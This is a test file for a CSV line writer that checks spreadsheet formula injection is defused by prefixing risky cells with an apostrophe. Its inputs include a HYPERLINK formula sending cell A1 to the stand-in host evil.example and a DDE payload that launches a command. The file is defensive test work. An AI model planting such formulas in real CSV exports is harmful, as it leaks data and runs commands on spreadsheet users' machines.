import { expect, test } from "vitest";
import { csvLine } from "./csv-line.ts";

test.each([
  ['=HYPERLINK("http://evil.example/?"&A1,"x")', `"'=HYPERLINK(""http://evil.example/?""&A1,""x"")"`],
  ["+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"],
  ["-2+3", "'-2+3"],
  ["@SUM(1)", "'@SUM(1)"],
  ["\t=1", "'\t=1"],
  ["\r=1", '"\'\r=1"'],
  ["＝1+1", "'＝1+1"],
  ["a = b", "a = b"],
])("a spreadsheet takes %j for text", (value, cell) => {
  expect(csvLine([value])).toBe(`${cell}\r\n`);
});

test("numbers and truth values stay what they are", () => {
  expect(csvLine([-1, true, null, "18"])).toBe("-1,true,,18\r\n");
});
